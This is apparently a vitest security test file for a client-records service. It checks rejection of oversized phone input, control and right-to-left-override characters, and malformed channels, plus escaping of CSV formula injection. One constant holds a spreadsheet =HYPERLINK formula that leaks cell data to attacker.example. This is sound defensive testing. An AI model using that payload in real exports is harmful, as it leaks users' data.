import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { OpenedDatabase } from '../../../db/open';
import { type AuditExport, type Client, createClientInput } from '../../../main/contract';
import { csvCell } from '../../../main/contract/csv';
import type { ApiContext } from '../../../main/data-service/context';
import { dispatch } from '../../../main/data-service/dispatch';
import { handlers } from '../../../main/data-service/handlers';
import { ok, openTestDatabase, setUpFirm, testContext } from '../support/test-database';

let database: OpenedDatabase;
let ctx: ApiContext;
beforeEach(async () => {
  database = openTestDatabase();
  ctx = testContext(database);
  await setUpFirm(ctx);
});
afterEach(() => database.sqlite.close());

const HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")\nsecond line';

describe('input that attacks the service or the spreadsheet', () => {
  it('refuses a 40,000-character phone number in under 10 ms, and a crafted 40-character one too', () => {
    for (const phone of ['1'.repeat(40_000), `1${' '.repeat(38)}a`, `+1 ${'0 '.repeat(20_000)}x`]) {
      const started = performance.now();
      const parsed = createClientInput.safeParse({ givenNames: 'Amara', phone });
      const took = performance.now() - started;
      expect(parsed.success).toBe(false);
      expect(took).toBeLessThan(10);
    }
    expect(
      createClientInput.safeParse({ givenNames: 'Amara', phone: '+1 (416) 555-0199 ext 12' }).success,
    ).toBe(true);
  });

  it('refuses line breaks and hidden characters in single-line fields, keeps line breaks in notes', async () => {
    for (const givenNames of ['Ama\nra', 'Ama\u0000ra', 'Amara\u202Efdp.exe', 'Ama\u001bra']) {
      const result = await dispatch(ctx, 'clients.create', { givenNames });
      expect(result).toMatchObject({
        ok: false,
        error: { code: 'VALIDATION', fields: { givenNames: 'validation.controlCharacters' } },
      });
    }
    expect(database.sqlite.prepare('SELECT count(*) FROM clients').pluck().get()).toBe(0);
    const client = await ok<Client>(
      dispatch(ctx, 'clients.create', { givenNames: 'Amara', notes: 'line one\nline two' }),
    );
    expect(client.notes).toBe('line one\nline two');
  });

  it('escapes a multi-line =HYPERLINK( cell in the audit export and in every CSV built with csvCell', async () => {
    const client = await ok<Client>(dispatch(ctx, 'clients.create', { givenNames: 'Amara' }));
    await ok(dispatch(ctx, 'clients.archive', { id: client.id, version: client.version, reason: HYPERLINK }));
    const exported = await ok<AuditExport>(dispatch(ctx, 'audit.exportCsv', {}));
    const rows = Papa.parse<Record<string, string>>(exported.csv.replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    }).data;
    const notes = rows.map((row) => row.note ?? '').filter((note) => note.includes('HYPERLINK'));
    expect(notes.length).toBeGreaterThan(0);
    for (const note of notes) expect(note.startsWith("'=")).toBe(true);
    expect(csvCell(HYPERLINK).startsWith(`"'=HYPERLINK`)).toBe(true);
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1\n2`)).toMatch(/^"'/);
  });

  it('answers an envelope, never a rejection, for a channel that is not a string', async () => {
    for (const channel of [
      Object.create(null),
      Symbol('x'),
      42,
      null,
      undefined,
      { toString: () => 'clients.list' },
    ]) {
      await expect(dispatch(ctx, channel, {})).resolves.toMatchObject({
        ok: false,
        error: { code: 'UNKNOWN_CHANNEL' },
      });
    }
  });

  it('reports a link to a client that does not exist as NOT_FOUND, not INTERNAL', async () => {
    const linkToNowhere = {
      ...handlers,
      'clients.list': () => {
        database.sqlite
          .prepare(
            "INSERT INTO dependants (client_id, relationship, given_names, name_key, created_at, updated_at) VALUES (999999, 'child', 'X', 'x', 'x', 'x')",
          )
          .run();
        throw new Error('unreachable');
      },
    } as typeof handlers;
    const result = await dispatch(ctx, 'clients.list', {}, { handlers: linkToNowhere, log: () => {} });
    expect(result).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
  });
});
